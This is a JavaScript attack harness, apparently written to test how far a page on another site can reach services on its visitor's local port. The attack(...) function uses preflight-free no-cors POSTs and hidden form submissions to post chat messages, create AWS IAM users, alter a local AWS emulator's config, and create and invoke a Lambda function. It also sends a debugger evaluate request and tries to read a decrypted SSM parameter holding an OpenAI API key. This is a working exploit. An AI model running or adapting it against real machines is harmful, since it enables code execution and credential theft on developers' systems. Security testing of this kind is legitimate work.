// What a web page of another site tries on a port of the machine that its reader sits at.
// Each attempt returns what it could read, or "" where the browser or the server kept it out.

const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const timed = (promise) => Promise.race([promise, wait(5000).then(() => "")]).catch(() => "");

async function readable(url, options = {}) {
  return timed(
    fetch(url, options).then(async (answer) => {
      const said = (await answer.text()).slice(0, 2000);
      return answer.status === 403 ? "" : `${answer.status} ${said}`;
    }),
  );
}

// A CORS-safelisted request goes out without a preflight, whatever becomes of its answer:
// https://fetch.spec.whatwg.org/#cors-safelisted-request-header
function blind(url, body, type = "text/plain") {
  const options = { method: "POST", mode: "no-cors", body, headers: { "Content-Type": type } };
  return timed(fetch(url, options).then(() => ""));
}

function submitted(url, fields, enctype) {
  const frame = document.createElement("iframe");
  frame.name = `f${Math.random()}`;
  const form = document.createElement("form");
  Object.assign(form, { action: url, method: "POST", enctype, target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    Object.assign(input, { type: "hidden", name, value });
    form.append(input);
  }
  document.body.append(frame, form);
  const loaded = new Promise((done) => frame.addEventListener("load", done));
  form.submit();
  return timed(loaded.then(() => ""));
}

function socket(url) {
  return timed(
    new Promise((done) => {
      const opened = new WebSocket(url);
      opened.onopen = () => done(`opened ${url}`);
      opened.onerror = () => done("");
    }),
  );
}

function stream(url) {
  return timed(
    new Promise((done) => {
      const source = new EventSource(url);
      source.onopen = () => done(`opened ${url}`);
      source.onerror = () => done("");
    }),
  );
}

const json = (target) => ({ "Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": target });
const key = JSON.stringify({ Name: "/stackbot/local/openai-api-key", WithDecryption: true });
// https://microsoft.github.io/debug-adapter-protocol/overview#base-protocol
const dap = JSON.stringify({ seq: 1, type: "request", command: "evaluate", arguments: { expression: "1" } });

// eslint-disable-next-line no-unused-vars
async function attack(host, port, run) {
  const at = `http://${host}:${port}`;
  const order = JSON.stringify({ person: "ada", channel: "#general", text: `foreign ${run}` });
  await Promise.all([
    blind(`${at}/control/say`, order),
    blind(`${at}/control/say`, order, "application/x-www-form-urlencoded"),
    submitted(`${at}/control/say`, { [order.slice(0, -1) + ',"x":"']: '"}' }, "text/plain"),
    blind(`${at}/api/users.list`, "token=xoxb-fake", "application/x-www-form-urlencoded"),
    submitted(`${at}/`, { Action: "CreateUser", Version: "2010-05-08", UserName: `form${run}` }, ""),
    blind(`${at}/`, `Action=CreateUser&Version=2010-05-08&UserName=${run}`, "application/x-www-form-urlencoded"),
    blind(`${at}/_ministack/config`, JSON.stringify({ "lambda_svc.LAMBDA_EXECUTOR": "local" })),
    blind(`${at}/`, `Content-Length: ${dap.length}\r\n\r\n${dap}`),
    blind(`${at}/2015-03-31/functions`, JSON.stringify({ ...window.lambda, FunctionName: run })),
  ]);
  await blind(`${at}/2015-03-31/functions/${run}/invocations`, "{}");
  const read = await Promise.all([
    readable(`${at}/`),
    readable(`${at}/control/state`),
    readable(`${at}/v1/models`),
    readable(`${at}/_ministack/health`),
    readable(`${at}/`, { method: "POST", headers: json("AmazonSSM.GetParameter"), body: key }),
    readable(`${at}/2015-03-31/functions`),
    readable(`${at}/_aws/execute-api/1a2b3c4d/$default/slack/events`, { method: "POST", body: "{}" }),
    readable(`${at}/control/say`, {
      method: "POST", headers: { "Content-Type": "application/json" }, body: order,
    }),
    socket(`ws://${host}:${port}/link/?ticket=1`),
    socket(`ws://${host}:${port}/_aws/execute-api/1a2b3c4d/$default/x`),
    stream(`${at}/control/feed`),
  ]);
  return read.filter((said) => said !== "");
}
